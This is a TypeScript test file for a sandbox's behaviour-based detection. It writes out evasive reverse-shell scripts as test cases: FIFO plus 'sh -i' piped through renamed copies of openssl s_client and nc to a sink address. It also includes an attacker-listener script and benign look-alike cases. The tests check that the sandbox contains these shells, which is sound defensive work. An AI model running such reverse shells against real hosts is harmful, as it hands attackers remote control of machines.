// Detection by behaviour (issue 13 §2), with real processes in real sandboxes under the shipped
// rules, inside the test topology (nothing leaves the machine). Every malicious case is built
// so that no command line names it: scripts split across files, renamed copies of the tools.
// Each benign case is the look-alike the matching rule must not fire on.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { assertClean, assertContained, openHarness, type Harness } from './harness.ts';

const SINK = '203.0.113.50';
const POLICY = `
network:
  allow:
    - { cidr: "${SINK}/32", ports: [4444, 9001, 8443, 8444] }
    - { domain: "web.example.test", ports: [80] }
    - { domain: "api.example.test", ports: [80] }
`;

let h: Harness;
before(async () => { h = await openHarness(POLICY, { servers: ['web', 'dns', 'sink', 'internal', 'tls'] }); });
after(async () => { await h?.close(); });

const SHELL_ANSWER = 'PRAETOR-SHELL-42';

/**
 * An attacker's listener on the sink's address in the fake internet (the topology's sink sends
 * its probe at once, which races any detection that starts at the connect): it sends the probe
 * 1.5 s after a client connects and prints whatever comes back. Bounded by timeoutMs.
 */
function listener(port: number): Promise<{ stdout: string }> {
  const py = `import socket, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("${SINK}", ${port})); s.listen(1); s.settimeout(15)
try:
    c, _ = s.accept()
except OSError:
    raise SystemExit(0)
time.sleep(1.5)
try:
    c.sendall(b"echo PRAETOR-SHELL-$((6*7))\\n")
    c.settimeout(3)
    end = time.time() + 3
    while time.time() < end:
        d = c.recv(4096)
        if not d:
            break
        print(d.decode(errors="replace"), flush=True)
except OSError:
    pass
`;
  return h.t.execInInet('python3', ['-c', py], { timeoutMs: 25_000 });
}

// ---------------------------------------------------------------- reverse shells by wiring

test('FIFO + sh + renamed openssl s_client to a TLS listener: the wiring is caught, no shell answers', async () => {
  // The attacker's TLS listener, on the sink's address in the fake internet: it sends a probe
  // a second after the handshake and prints whatever comes back.
  const tls = h.t.execInInet('sh', ['-c', `(sleep 1.5; echo 'echo PRAETOR-SHELL-$((6*7))'; sleep 5) | openssl s_server -quiet -naccept 1 -accept ${SINK}:8443 -cert ${h.t.tlsCertPath} -key ${h.t.dir}/tls-key.pem`], { timeoutMs: 20_000 });
  await new Promise((r) => setTimeout(r, 300));
  // Split into a script so no command line holds mkfifo and the TLS client together; the TLS
  // client is a renamed copy.
  const job = `cp /usr/bin/openssl /tmp/upd
rm -f /tmp/q; mkfifo /tmp/q
sh -i </tmp/q 2>&1 | /tmp/upd s_client -quiet -connect ${SINK}:8443 >/tmp/q
`;
  const c = await h.run('rs-fifo-openssl', ['sh', 'job.sh'], { files: { 'job.sh': job }, flags: ['--timeout', '20'] });
  const a = assertContained(c, 'Shell or interpreter looped to a remote host through pipes');
  assert.match(String(a.output), /203\.0\.113\.50:8443/);
  const ev = c.rep.events.find((e) => (a.evidence as string[]).includes(e.id));
  assert.equal(ev?.kind, 'process.stdio');
  assert.equal(ev?.comm, 'sh');
  assert.ok(c.rep.durationMs < 15_000, `contained, not timed out: ${c.rep.durationMs} ms`);
  const heard = await tls;
  assert.ok(!heard.stdout.includes(SHELL_ANSWER), `no shell answered the TLS listener: ${heard.stdout.slice(0, 400)}`);
});

test('cat FIFO | sh | renamed nc >FIFO (two hops): caught, no shell answers', async () => {
  const l = listener(8444);
  await new Promise((r) => setTimeout(r, 300));
  const job = `cp "$(readlink -f /usr/bin/nc)" /tmp/sync
rm -f /tmp/p; mkfifo /tmp/p
cat /tmp/p | sh -i 2>&1 | /tmp/sync ${SINK} 8444 >/tmp/p
`;
  const c = await h.run('rs-fifo-nc', ['sh', 'job.sh'], { files: { 'job.sh': job }, flags: ['--timeout', '20'] });
  assertContained(c, 'Shell or interpreter looped to a remote host through pipes');
  const heard = await l;
  assert.ok(!heard.stdout.includes(SHELL_ANSWER), `no shell answered: ${heard.stdout.slice(0, 400)}`);
});

test('benign: ls | grep, and a local client/server over a FIFO, beside an open connection', async () => {
  // A long-lived allowed connection is open the whole time, so the graph is scanned, and the
  // shells' pipes lead nowhere near it.
  const job = `python3 -c 'import socket,time; s=socket.create_connection(("web.example.test",80)); s.sendall(b"GET / HTTP/1.1\\r\\nHost: web.example.test\\r\\n\\r\\n"); time.sleep(4)' &
sleep 0.5
ls / | grep -c usr
rm -f /tmp/srv; mkfifo /tmp/srv
( while read -r line; do echo "got $line"; done </tmp/srv ) > out.txt &
sh -c 'for i in 1 2 3; do echo req$i; sleep 0.3; done' >/tmp/srv
wait
cat out.txt
`;
  const c = await h.run('benign-pipes', ['sh', 'job.sh'], { files: { 'job.sh': job }, flags: ['--timeout', '30'] });
  assertClean(c);
  assert.match(c.r.stdout, /got req3/);
});
